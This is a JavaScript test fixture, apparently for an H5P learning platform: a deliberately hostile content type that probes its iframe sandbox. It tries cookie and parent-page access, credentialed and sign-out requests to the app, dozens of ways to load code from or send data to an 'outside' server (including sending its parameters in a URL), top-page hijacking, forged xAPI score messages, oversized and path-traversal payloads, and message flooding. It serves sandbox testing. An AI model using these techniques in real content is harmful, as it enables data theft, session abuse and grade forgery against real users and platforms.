// A content type of H5P written for the tests that means harm. It tries everything it can think of to reach what is
// outside its frame, and writes into the frame what came of it. `params.outside` is a server that it would tell things.
window.Fadae = window.Fadae || {};
window.Fadae.YesNo = class extends window.H5P.EventDispatcher {
  constructor(params, contentId) {
    super();
    Object.assign(this, { params, contentId });
  }

  attach($container) {
    const said = document.createElement("pre");
    said.id = "said";
    $container.append(said);
    const done = (outcomes) => (said.textContent = JSON.stringify(outcomes));
    void this[this.params.mode]().then(done);
  }

  async reach() {
    const { outside } = this.params;
    const app = new URL(location.href).origin;
    const outcomes = {};
    const wait = (ms) => new Promise((over) => setTimeout(over, ms));
    /** `did` must not come out: the attempt got what it wanted. */
    const attempt = async (name, act) => {
      try {
        const got = await Promise.race([act(), wait(1500).then(() => "no answer")]);
        outcomes[name] = got === true ? "did" : `no: ${String(got)}`;
      } catch (error) {
        outcomes[name] = `no: ${error.name}`;
      }
    };
    const element = (tag, attributes, place = document.body) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      place.append(made);
      return made;
    };
    const loads = (tag, attributes) =>
      new Promise((over) => {
        const made = element(tag, {});
        for (const name of ["load", "loadeddata"]) made.addEventListener(name, () => over(true));
        made.addEventListener("error", () => over("error"));
        for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      });

    await attempt("cookie", () => document.cookie.length >= 0);
    await attempt("cookie-store", () => cookieStore.getAll().then(() => true));
    await attempt("page", () => parent.document.body && true);
    await attempt("page-address", () => parent.location.href.length > 0 && true);
    await attempt("database", () => indexedDB.open("x") && true);
    await attempt("caches", () => caches.keys().then(() => true));
    await attempt("service-worker", () => navigator.serviceWorker.register("/worker.js").then(() => true));
    await attempt("fetch-app", () => fetch(`${app}/account`, { credentials: "include" }).then(() => true));
    await attempt("fetch-app-blind", () =>
      fetch(`${app}/sign-out`, { method: "POST", mode: "no-cors" }).then(() => true),
    );
    await attempt(
      "request-app",
      () =>
        new Promise((over) => {
          const request = new XMLHttpRequest();
          request.addEventListener("load", () => over(true));
          request.addEventListener("error", () => over("error"));
          request.open("GET", `${app}/account`);
          request.send();
        }),
    );
    await attempt("fetch", () => fetch(`${outside}/fetch`, { mode: "no-cors" }).then(() => true));
    await attempt("beacon", () => navigator.sendBeacon(`${outside}/beacon`, "x") && "queued");
    await attempt("image", () => loads("img", { src: `${outside}/image` }));
    await attempt("picture-set", () => loads("img", { srcset: `${outside}/srcset 1x` }));
    await attempt("script", () => loads("script", { src: `${outside}/script` }));
    await attempt("import", () => import(`${outside}/import`).then(() => true));
    await attempt("style", () => loads("link", { rel: "stylesheet", href: `${outside}/style` }));
    await attempt("style-import", () => element("style", {}).append(`@import url(${outside}/import-style)`));
    await attempt(
      "background",
      () => element("div", { style: `background: url(${outside}/background); height: 9px` }) && "shown",
    );
    await attempt("font", () => new FontFace("x", `url(${outside}/font)`).load().then(() => true));
    await attempt("sound", () => loads("audio", { src: `${outside}/sound`, preload: "auto" }));
    await attempt("film", () =>
      loads("video", { src: `${outside}/film`, preload: "auto", poster: `${outside}/poster` }),
    );
    await attempt("object", () => loads("object", { data: `${outside}/object` }));
    await attempt("embed", () => loads("embed", { src: `${outside}/embed` }));
    for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "icon", "manifest"])
      await attempt(
        rel,
        () => element("link", { rel, href: `${outside}/${rel}`, as: "image" }, document.head) && "asked",
      );
    await attempt("speculation", () => {
      const rules = element("script", { type: "speculationrules" }, document.head);
      rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`${outside}/speculation`] }] });
      return "asked";
    });
    await attempt("inner-frame", () => element("iframe", { src: `${outside}/inner-frame` }) && "made");
    await attempt(
      "inner-document",
      () =>
        element("iframe", {
          srcdoc: `<img src="${outside}/inner-image"><script>fetch("${outside}/inner-fetch")</script>`,
        }) && "made",
    );
    await attempt("inner-window", () => element("iframe", {}).contentWindow.RTCPeerConnection && true);
    await attempt(
      "socket",
      () =>
        new Promise((over) => {
          const socket = new WebSocket(`${outside.replace("http", "ws")}/socket`);
          socket.addEventListener("open", () => over(true));
          socket.addEventListener("error", () => over("error"));
        }),
    );
    await attempt(
      "event-source",
      () =>
        new Promise((over) => {
          const source = new EventSource(`${outside}/events`);
          source.addEventListener("open", () => over(true));
          source.addEventListener("error", () => over("error"));
        }),
    );
    await attempt("transport", () =>
      new WebTransport(`${outside.replace("http:", "https:")}/transport`).ready.then(() => true),
    );
    await attempt("connection", () => this.connects());
    await attempt("connection-again", () => {
      delete window.RTCPeerConnection;
      return this.connects();
    });
    await attempt(
      "worker",
      () =>
        new Promise((over) => {
          const code = new Blob([`fetch("${outside}/worker")`, ";postMessage(1)"]);
          const worker = new Worker(URL.createObjectURL(code));
          worker.addEventListener("message", () => over(true));
          worker.addEventListener("error", () => over("error"));
        }),
    );
    await attempt("form", () => {
      element("form", { action: `${outside}/form`, method: "post", target: "_self" }).submit();
      return "sent";
    });
    await attempt("form-app", () => {
      element("form", { action: `${app}/sign-out`, method: "post", target: "_top" }).submit();
      return "sent";
    });
    await attempt("window", () => (window.open(`${outside}/window`) ? true : "none"));
    for (const target of ["_blank", "_top", "_parent"])
      await attempt(`link${target}`, () => {
        element("a", { href: `${outside}/link${target}`, target, ping: `${outside}/ping` }).click();
        return "clicked";
      });
    await attempt("page-away", () => {
      top.location.href = `${outside}/top`;
      return "set";
    });
    await attempt("page-script", () => {
      parent.location.href = "javascript:document.title='owned'";
      return "set";
    });
    await attempt("dialog", () => (window.confirm("?") ? true : "none"));
    await attempt("full-screen", () => document.body.requestFullscreen().then(() => true));
    await attempt(
      "place",
      () =>
        new Promise((over) =>
          navigator.geolocation.getCurrentPosition(
            () => over(true),
            () => over("error"),
          ),
        ),
    );
    await wait(500);
    return outcomes;
  }

  connects() {
    const connection = new window.RTCPeerConnection({ iceServers: [{ urls: this.params.stun }] });
    connection.createDataChannel("x");
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    return true;
  }

  /** Leaves with its own frame, and takes what it knows with it. */
  async leave() {
    setTimeout(
      () => (location.href = `${this.params.outside}/leave?${encodeURIComponent(JSON.stringify(this.params))}`),
      100,
    );
    return { left: true };
  }

  /** Leaves by a file that is to be saved. */
  async download() {
    const link = document.createElement("a");
    Object.assign(link, { href: `${this.params.outside}/download`, download: "x" });
    document.body.append(link);
    setTimeout(() => link.click(), 100);
    return { left: true };
  }

  /** Leaves by a page that sends itself on. */
  async refresh() {
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0; url=${this.params.outside}/refresh`;
    document.head.append(meta);
    return { left: true };
  }

  /** Says what is not so, straight to the page. */
  async forge() {
    const iri = window.H5PIntegration.contents["cid-activity"].url;
    const verb = { id: "http://adlnet.gov/expapi/verbs/answered" };
    const say = (text) => parent.postMessage({ type: "statement", text }, "*");
    const of = (score, more = {}) => JSON.stringify({ verb, object: { id: iri }, result: { score }, ...more });
    say(of({ raw: 9, max: 4 }));
    say(of({ raw: -1, max: 4 }));
    say(of({ raw: 1, max: 0 }));
    say(`{"verb":${JSON.stringify(verb)},"object":{"id":"${iri}"},"result":{"score":{"raw":NaN,"max":4}}}`);
    say(of({ raw: "4", max: 4 }));
    say(of({ raw: 4, max: 4 }, { object: { id: `${iri}?subContentId=1` } }));
    say(of({ raw: 4, max: 4 }, { object: { id: "urn:fadae:h5p:another:activity" } }));
    say(of({ raw: 4, max: 4 }, { verb: { id: "http://adlnet.gov/expapi/verbs/passed" } }));
    say(of({ raw: 4, max: 4 }, { context: { contextActivities: { parent: [{ id: "x" }] } } }));
    say(of({ raw: 4, max: 4 }, { padding: "x".repeat(50_000_000) }));
    parent.postMessage({ type: "statement", text: { length: 1, verb } }, "*");
    parent.postMessage(null, "*");
    parent.postMessage({ type: "height", height: Infinity }, "*");
    parent.postMessage({ type: "height", height: 1e9 }, "*");
    parent.postMessage({ type: "state", text: "x".repeat(70_000) }, "*");
    parent.postMessage({ type: "need", path: "../../h5p.json" }, "*");
    // What is right among it counts, and only once.
    for (let time = 0; time < 3; time++) say(of({ raw: 3, max: 4 }));
    return { said: true };
  }

  async flood() {
    for (let time = 0; time < 20_000; time++) parent.postMessage({ type: "statement", text: "{}" }, "*");
    return { said: true };
  }
};
